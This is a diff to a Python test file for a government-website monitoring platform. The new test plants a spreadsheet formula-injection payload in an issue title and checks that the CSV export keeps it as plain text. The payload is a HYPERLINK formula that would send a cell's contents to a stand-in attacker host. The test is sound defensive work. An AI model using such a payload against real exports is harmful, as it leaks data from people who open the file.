@@ -9,7 +9,7 @@ from pathlib import Path
 from starlette.testclient import TestClient
 from support.platform import ELF, PASSWORD, PDF, PNG, sign_in, token_of
 
-from govwatch.core.schema import open_read_only
+from govwatch.core.schema import open_db, open_read_only
 from govwatch.platform import auth
 from govwatch.platform.app import BodyLimit, create_app
 from govwatch.platform.settings import (
@@ -144,6 +144,9 @@ def test_crawled_text_is_shown_as_text(client_for) -> None:
 
 
 def test_an_auditor_reads_everything_and_changes_nothing(client_for, settings) -> None:
+    db = open_db(settings.db_path)  # a crawled title a spreadsheet would run
+    db["issues"].update(4, {"title": '=HYPERLINK("http://evil.example/?"&A1,"点此")'})
+    db.close()
     auditor = client_for("auditor")
     assert "咸阳市某某县人民政府" in auditor.get("/dashboard").text
     assert auditor.get("/issues/4").status_code == 200
@@ -152,6 +155,7 @@ def test_an_auditor_reads_everything_and_changes_nothing(client_for, settings) -
     assert export.headers["content-disposition"].startswith("attachment;")
     lines = export.text.lstrip("\ufeff").splitlines()
     assert lines[0].startswith("编号,责任单位,网站") and len(lines) == 1 + 4
+    assert ",\"'=HYPERLINK(" in export.text  # text in the cell, never a formula
     token = token_of(auditor)
     for path, data in (("/issues/4/claim", {"contact": "审计", "phone": "123456"}),
                        ("/issues/4/dispute", {"reason": "x"}), ("/bulletins/publish", {})):
